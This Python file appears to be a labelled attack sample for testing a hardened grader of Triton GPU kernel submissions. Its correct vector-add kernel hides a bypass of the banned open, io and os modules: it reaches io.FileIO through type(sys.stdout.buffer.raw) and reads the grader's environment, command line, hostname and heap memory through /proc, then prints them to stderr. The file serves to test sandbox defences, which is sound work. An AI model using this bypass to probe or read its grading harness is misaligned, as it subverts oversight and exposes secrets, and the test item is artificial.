"""Example "opens-own-memory": opens files with a class that ``type()`` hands it, no ``open()`` in sight.

Attack: ``open``, ``io`` and ``os`` are refused, but ``sys`` may be imported for
``print(..., file=sys.stderr)``. The class of stdout's raw file, ``type(sys.stdout.buffer.raw)``,
is io.FileIO, and calling it opens any path. The first call reads /proc/self/cmdline and
/proc/self/environ (how the grading process was started, and with what), /etc/hostname (which
machine grades it) and the process's own heap through /proc/self/mem, at the addresses
/proc/self/maps gives (where the harness keeps its channel and the inputs it was handed). It
prints what it found on stderr and adds correctly.

Mechanism abused: a class reached from an allowed value (a stream of sys) and called.

Expected under the hardened grader: refused by the policy gate before anything runs, the line
named: what ``type()`` returns may only be compared or printed, and sys.stdout/sys.stderr may
only be printed to. 0 for the module.
"""

import sys

import torch
import triton
import triton.language as tl

from grader.validation import check_tensors

# Elements per program. A power of two (tl.arange needs one); 1024 keeps every load wide and
# gives the GPU thousands of programs to spread over its multiprocessors at large sizes.
BLOCK_SIZE = 1024
FOUND = {}


def file_class():
    """io.FileIO: the class of stdout's raw file (of stdout.buffer itself, where Python runs unbuffered)."""
    try:
        return type(sys.stdout.buffer.raw)
    except AttributeError:
        return type(sys.stdout.buffer)


def read(path, offset=0, size=1 << 16):
    """open(path, "rb").read() under another name."""
    with file_class()(path, "rb") as f:
        if offset:
            f.seek(offset)
        return f.read(size)


def look_around():
    for path in ("/proc/self/cmdline", "/proc/self/environ", "/etc/hostname"):
        try:
            FOUND[path] = read(path)[:200]
        except (AttributeError, OSError) as e:
            FOUND[path] = f"{e}"
    try:
        for line in read("/proc/self/maps", size=1 << 20).decode().splitlines():
            if line.endswith("[heap]"):
                start, end = (int(a, 16) for a in line.split()[0].split("-"))
                FOUND["/proc/self/mem"] = f"{len(read('/proc/self/mem', start, min(end - start, 1 << 20)))} bytes of heap"
    except (AttributeError, OSError, ValueError) as e:
        FOUND["/proc/self/mem"] = f"{e}"
    print(f"opens-own-memory found: {FOUND}", file=sys.stderr)


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    pid = tl.program_id(axis=0)
    block_start = pid * BLOCK_SIZE
    offsets = block_start + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    x = tl.load(x_ptr + offsets, mask=mask)
    y = tl.load(y_ptr + offsets, mask=mask)
    output = x + y
    tl.store(out_ptr + offsets, output, mask=mask)


def add(x: torch.Tensor, y: torch.Tensor) -> torch.Tensor:
    """Return x + y for two tensors of the same shape, dtype and device."""
    if not FOUND:  # once, while the harness holds this call's inputs
        look_around()
    check_tensors(("x", x), ("y", y))
    if x.shape != y.shape:
        raise ValueError(f"x and y must have the same shape, got {tuple(x.shape)} and "
                         f"{tuple(y.shape)}; this kernel does not broadcast.")
    # The kernel walks memory linearly, so strided inputs are made contiguous first.
    x, y = x.contiguous(), y.contiguous()
    out = torch.empty_like(x)
    n_elements = out.numel()
    grid = (triton.cdiv(n_elements, BLOCK_SIZE),)
    add_kernel[grid](x, y, out, n_elements, BLOCK_SIZE=BLOCK_SIZE)
    return out


if __name__ == "__main__":
    from grader.check import self_check

    self_check(__file__)
